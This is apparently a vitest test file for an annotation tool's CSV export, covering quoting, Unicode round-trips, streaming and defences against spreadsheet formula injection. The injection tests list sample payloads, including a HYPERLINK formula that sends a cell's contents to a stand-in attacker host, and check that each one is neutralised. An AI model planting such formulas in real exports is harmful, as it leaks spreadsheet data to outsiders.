import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  CSV_HEADERS,
  csvField,
  csvRows,
  neutraliseFormula,
  TAG_SEPARATOR,
  toCsv,
} from '../../../src/core/export/csv.ts';
import type { Annotation } from '../../../src/core/model/annotation.ts';
import { HTML_COMMENT, manyRecord, PDF_HIGHLIGHT, SAMPLE_RECORDS, TAGGED_ONLY } from './sample-records.ts';

function parsed(text: string): Record<string, string>[] {
  return parse(text, { columns: true, bom: true, skip_empty_lines: false }) as Record<string, string>[];
}

/** A cell as the user typed it: the apostrophe our export added in front of a formula is taken off. */
function unneutralised(cell: string): string {
  return /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
}

function withQuoteAndComment(
  base: Annotation,
  exact: string,
  comment: string,
  tags: string[] = [],
): Annotation {
  return {
    ...base,
    target: { ...base.target, selector: [{ type: 'TextQuoteSelector', exact }] },
    body: { comment, tags },
  };
}

describe('CSV export', () => {
  it('writes the header and one CRLF-terminated row per record, with a BOM only when asked', () => {
    const text = toCsv(SAMPLE_RECORDS);
    expect(text.startsWith('document,source,page,commitment label,')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(1 + SAMPLE_RECORDS.length + 1);
    expect(toCsv(SAMPLE_RECORDS, { bom: true })).toBe(`\uFEFF${text}`);
  });

  it("parses back to the records' fields: quotes, commas, newlines, characters outside the BMP", () => {
    const tricky = [
      HTML_COMMENT,
      PDF_HIGHLIGHT,
      TAGGED_ONLY,
      withQuoteAndComment(
        HTML_COMMENT,
        'a "quoted", comma\r\nand CRLF\nand LF 𝔘𝔫𝔦 😀',
        'line 1\n"line 2", 👍🏽',
        ['x,y', 'ümlaut'],
      ),
    ];
    const rows = parsed(toCsv(tricky, { bom: true }));
    expect(Object.keys(rows[0] ?? {})).toEqual(CSV_HEADERS);
    expect(rows).toHaveLength(tricky.length);
    rows.forEach((row, i) => {
      const record = tricky[i] as Annotation;
      const quote = record.target.selector.find((s) => s.type === 'TextQuoteSelector');
      expect(row).toMatchObject({
        document: record.document.title,
        source: record.target.source,
        quote: quote?.type === 'TextQuoteSelector' ? quote.exact : '',
        comment: record.body.comment,
        visibility: record.visibility,
        motivation: record.motivation,
        id: record.id,
        created: record.created,
        modified: record.modified,
        'commitment label': '',
        completion: '',
        'evidence URLs': '',
        supported: '',
      });
      expect(row.tags?.split(TAG_SEPARATOR).filter(Boolean).map(unneutralised)).toEqual(record.body.tags);
    });
    expect(rows[1]?.page).toBe('7');
    expect(rows[0]?.page).toBe('');
  });

  it('fills author and group from what the caller knows', () => {
    const [row] = parsed(
      toCsv([HTML_COMMENT], {
        metaOf: () => ({
          creator: { id: 'urn:uuid:1', name: 'Ana' },
          group: { id: 'g', name: 'CSO network' },
        }),
      }),
    );
    expect(row).toMatchObject({ author: 'Ana', group: 'CSO network' });
  });

  describe('formula injection', () => {
    it.each([
      ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
      ['+1'],
      ['-1+1'],
      ['@SUM(A1:A9)'],
      ['\t=1'],
      ['\r=1'],
    ])('neutralises %j with a leading apostrophe, in every text column', (payload) => {
      const record = {
        ...withQuoteAndComment(HTML_COMMENT, payload, payload, [payload.trim() || 'x']),
        document: { title: payload },
      };
      const [row] = parsed(toCsv([record]));
      for (const column of ['document', 'quote', 'comment']) expect(row?.[column]).toBe(`'${payload}`);
      expect(row?.tags).toBe(`'${record.body.tags[0]}`);
    });

    it('leaves ordinary text alone, including a formula character later in the cell', () => {
      expect(neutraliseFormula('a = b')).toBe('a = b');
      expect(neutraliseFormula('2026-01-31T12:00:00.000Z')).toBe('2026-01-31T12:00:00.000Z');
      expect(csvField('say "hi"')).toBe('"say ""hi"""');
      expect(csvField('=1,2')).toBe(`"'=1,2"`);
    });
  });

  // 10k records with assessments and evidence: seconds on a busy machine, so more than the default 5 s.
  it('streams 10k records lazily, with the same text as the whole export', { timeout: 30_000 }, () => {
    const count = 10_000;
    let produced = 0;
    function* source() {
      for (let n = 0; n < count; n++) {
        produced += 1;
        yield manyRecord(n);
      }
    }
    const lines = csvRows(source());
    // Pulling the header and one row must not read the whole source.
    lines.next();
    lines.next();
    expect(produced).toBe(1);
    const rest = [...lines];
    expect(rest).toHaveLength(count - 1);
    const all = Array.from({ length: count }, (_, n) => manyRecord(n));
    const whole = toCsv(all);
    expect([...csvRows(all)].join('')).toBe(whole);
    expect(parsed(whole)).toHaveLength(count);
  });
});
